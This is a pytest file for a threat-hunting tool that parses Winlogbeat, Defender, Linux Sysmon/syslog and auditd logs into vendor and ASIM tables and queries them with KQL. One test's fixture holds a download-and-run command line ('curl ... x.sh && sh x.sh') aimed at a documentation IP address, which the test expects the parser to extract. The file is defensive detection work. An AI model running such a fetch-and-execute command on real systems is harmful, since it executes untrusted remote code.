"""Sources beyond Windows event logs: Winlogbeat (ECS), Defender exports, Linux syslog and
auditd, archives; the vendor tables and the ASIM aliases they fill."""

from __future__ import annotations

import gzip
import json
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest

from kqlhunt.engine import Engine
from kqlhunt.normalize import ASIM_ALIASES, LogFormat, read_logs
from kqlhunt.normalize import schema as f

from .conftest import rows_of

DPE = "M365 Defender for Endpoint"


def test_winlogbeat_ecs_documents(data_dir: Path) -> None:
    result = read_logs([data_dir / "winlogbeat.ndjson"])

    assert result.stats.events_read == 3
    sysmon, security = rows_of(result)
    assert sysmon[f.EVENT_PRODUCT] == "Sysmon"
    assert sysmon[f.TIME_GENERATED] == datetime(2024, 2, 2, 10, 11, 12, 345000, tzinfo=timezone.utc)
    assert (sysmon[f.DVC_HOSTNAME], sysmon[f.DVC_DOMAIN], sysmon[f.DVC_FQDN]) == (
        "ws07",
        "lab.local",
        "ws07.lab.local",
    )
    assert sysmon[f.TARGET_PROCESS_IMPHASH] == "4" * 32
    assert (sysmon[f.HASH], sysmon[f.HASH_TYPE]) == ("3" * 64, "SHA256")
    assert sysmon[f.ACTOR_USERNAME] == "LAB\\dave"
    assert sysmon[f.EVENT_ORIGINAL_UID] == "88231"
    assert security[f.TARGET_PROCESS_ID] == "4244"
    assert security[f.TARGET_PROCESS_INTEGRITY_LEVEL] == "Medium"
    assert len(result.tables["Event"]) == 1
    assert len(result.tables["SecurityEvent"]) == 1


@pytest.mark.parametrize("name", ["device_process_events.csv", "device_process_events.json"])
def test_device_process_events_export(data_dir: Path, name: str) -> None:
    result = read_logs([data_dir / name])

    first, second = rows_of(result)
    assert first[f.EVENT_PRODUCT] == DPE
    assert first[f.TARGET_PROCESS_NAME] == (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    )
    assert first[f.TARGET_PROCESS_FILENAME] == "powershell.exe"
    assert first[f.TARGET_PROCESS_ID] == "6012"
    assert (first[f.TARGET_USERNAME], first[f.TARGET_USERNAME_TYPE]) == ("contoso\\erin", "Windows")
    assert (first[f.DVC_HOSTNAME], first[f.DVC_DOMAIN]) == ("ws09", "contoso.com")
    assert (first[f.DVC_ID_TYPE], first[f.DVC_OS]) == ("MDEid", "Windows")
    assert first[f.PARENT_PROCESS_NAME] == "explorer.exe"
    assert first[f.EVENT_ORIGINAL_UID] == "4711"
    assert (first[f.HASH], first[f.HASH_TYPE]) == ("6" * 64, "SHA256")
    # No target account: the alias falls back to the actor.
    assert second[f.USER] == "contoso\\erin"
    assert (second[f.HASH], second[f.HASH_TYPE]) == ("b" * 32, "MD5")

    [vendor] = result.tables["DeviceProcessEvents"].data.to_pylist()[:1]
    assert vendor["ProcessId"] == 6012
    assert vendor["ProcessCommandLine"] == 'powershell.exe -nop -c "Get-Process"'


def test_linux_sysmon_in_syslog_lines(data_dir: Path) -> None:
    result = read_logs([data_dir / "syslog_sysmon.log"])

    [row] = rows_of(result)
    assert row[f.EVENT_PRODUCT] == "Sysmon for Linux"
    assert row[f.TARGET_PROCESS_COMMAND_LINE] == "curl -s http://203.0.113.7/x.sh && sh x.sh"
    assert (row[f.TARGET_USERNAME], row[f.TARGET_USERNAME_TYPE]) == ("frank", "Simple")
    assert row[f.TARGET_PROCESS_FILENAME] == ""  # Sysmon for Linux's "-"
    assert result.tables["Syslog"].data.column("ProcessName").to_pylist() == ["sysmon"]


def test_raw_auditd_with_hex_arguments(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_text(
        "type=SYSCALL msg=audit(1700000000.100:501): arch=c000003e syscall=59 success=yes"
        ' exit=0 ppid=10 pid=11 auid=1000 uid=0 ses=3 comm="sh" exe="/bin/dash"\n'
        'type=EXECVE msg=audit(1700000000.100:501): argc=3 a0="sh" a1="-c"'
        " a2=6563686F206869\n"
        'type=CWD msg=audit(1700000000.100:501): cwd="/root"\n'
        "type=PROCTITLE msg=audit(1700000000.100:501): proctitle=7368002D63\n"
        "type=SYSCALL msg=audit(1700000001.000:502): arch=c000003e syscall=2 success=yes\n",
        encoding="utf-8",
    )

    result = read_logs([log])

    assert result.stats.events_read == 2
    [row] = rows_of(result)
    assert row[f.TARGET_PROCESS_COMMAND_LINE] == "sh -c echo hi"
    assert (row[f.TARGET_USER_ID], row[f.ACTOR_USER_ID]) == ("0", "1000")
    assert (row[f.TARGET_PROCESS_ID], row[f.ACTING_PROCESS_ID]) == ("11", "10")
    assert row[f.TIME_GENERATED] == datetime(2023, 11, 14, 22, 13, 20, 100000, tzinfo=timezone.utc)


def test_archives_hold_any_format(data_dir: Path, tmp_path: Path) -> None:
    archive = tmp_path / "logs.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.write(data_dir / "winlogbeat.ndjson", "a/winlogbeat.ndjson")
        bundle.write(data_dir / "events.xml", "b/events.xml")
    gz = tmp_path / "dpe.csv.gz"
    gz.write_bytes(gzip.compress((data_dir / "device_process_events.csv").read_bytes()))

    result = read_logs([archive, gz])

    assert result.stats.files_read == 3
    assert result.stats.per_product[DPE] == 2
    assert result.stats.process_events == 2 + 2 + 2


def test_damaged_archives_are_reported(data_dir: Path, tmp_path: Path) -> None:
    gz = tmp_path / "cut.ndjson.gz"
    gz.write_bytes(gzip.compress((data_dir / "winlogbeat.ndjson").read_bytes())[:-40])
    bad_zip = tmp_path / "bad.zip"
    bad_zip.write_bytes(b"PK\x03\x04" + b"\x00" * 50)

    result = read_logs([gz, bad_zip])

    reasons = {s.reason: s.path for s in result.stats.skipped}
    assert any("damaged gzip" in r for r in reasons)
    assert any("zip archive" in r for r in reasons)
    assert result.stats.files_failed == 1  # the zip; the gzip's readable part is still read


def test_invalid_utf8_and_unknown_format(data_dir: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad.ndjson"
    text = (data_dir / "winlogbeat.ndjson").read_bytes()
    bad.write_bytes(text.replace(b"whoami", b"who\xffami", 1))
    unknown = tmp_path / "blob.bin"
    unknown.write_bytes(b"\x00\x01\x02 not a log")

    result = read_logs([bad, unknown])

    assert result.stats.process_events == 2
    assert [s.reason for s in result.stats.skipped] == ["unrecognised format"]


def test_format_override(data_dir: Path, tmp_path: Path) -> None:
    misleading = tmp_path / "events.txt"
    misleading.write_bytes((data_dir / "syslog_sysmon.log").read_bytes())

    as_json = read_logs([misleading], log_format=LogFormat.JSON)
    as_text = read_logs([misleading], log_format=LogFormat.TEXT)

    assert as_json.stats.process_events == 0
    assert as_text.stats.process_events == 1


def test_vendor_tables_and_aliases_are_queryable(data_dir: Path) -> None:
    result = read_logs([data_dir / "winlogbeat.ndjson", data_dir / "device_process_events.csv"])
    engine = Engine(result.tables.values())
    try:
        security = engine.query(
            "SecurityEvent | where EventID == 4688 | project Process, Account, NewProcessName"
        )
        assert security.rows == [("whoami.exe", "LAB\\dave", "C:\\Windows\\System32\\whoami.exe")]
        dpe = engine.query("DeviceProcessEvents | where ProcessCommandLine has 'whoami' | count")
        assert dpe.rows == [(1,)]
        for alias in ("imProcess", "_Im_ProcessCreate", "_ASim_ProcessEvent_Create", *ASIM_ALIASES):
            assert engine.query(f"{alias} | count").rows == [(4,)]
        sysmon_event = engine.query("Event | project Source, EventID, EventData")
        [(source, event_id, xml)] = sysmon_event.rows
        assert (source, event_id) == ("Microsoft-Windows-Sysmon", 1)
        assert '<Data Name="Image">C:\\Windows\\System32\\cmd.exe</Data>' in xml
    finally:
        engine.close()


def test_additional_fields_keep_the_original_event(data_dir: Path) -> None:
    result = read_logs([data_dir / "device_process_events.csv"])

    first = rows_of(result)[0]
    extra = json.loads(str(first[f.ADDITIONAL_FIELDS]))
    assert extra["InitiatingProcessSignerType"] == "OsVendor"
    assert extra["ProcessVersionInfoOriginalFileName"] == "PowerShell.EXE"
